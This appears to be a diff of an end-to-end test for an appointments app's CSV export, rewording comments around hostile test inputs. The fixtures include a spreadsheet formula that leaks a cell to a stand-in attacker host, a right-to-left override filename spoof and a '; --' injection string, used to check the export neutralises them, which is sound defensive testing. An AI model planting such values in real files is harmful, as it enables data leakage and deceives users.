@@ -16,12 +16,12 @@ import { wholeModule } from './support/modules';
 import { filterBy, openAppointments, panel } from './support/steps';
 
 /*
- * What people type, or old records hold, is text everywhere: on the screen, on paper and in a spreadsheet. Every module's
- * list and details with such records are in other-origin.spec.ts.
+ * Typed text and old records are plain text everywhere: on screen, on paper and in spreadsheets. The lists and details
+ * of every module with such records are in other-origin.spec.ts.
  */
 
 const formula = '=HYPERLINK("http://evil.example?"&A1;"clique")';
-/** Shown as written, the end would read backwards: "exe.gpj". */
+/** Displayed as written, the end would read backwards: "exe.gpj". */
 const override = 'nota\u202Egpj.exe';
 const emoji = '👩🏽‍⚖️🏳️‍🌈 Ñandú é ﷽';
 
@@ -43,7 +43,7 @@ test('an appointment with hostile content in every field', async ({ page, signIn
   const { data } = papaparse.parse((await downloadText(csv)).slice(1), { delimiter: ';', newline: '\r\n' });
   const day = formatDate(today());
   expect(data.slice(1)).toEqual([
-    // Both what begins the cell and what would begin one where ';' parts cells.
+    // The start of the cell, and what would start one where ';' separates cells.
     [
       reference,
       `'${subject.replace('; --', "; '--")}`,
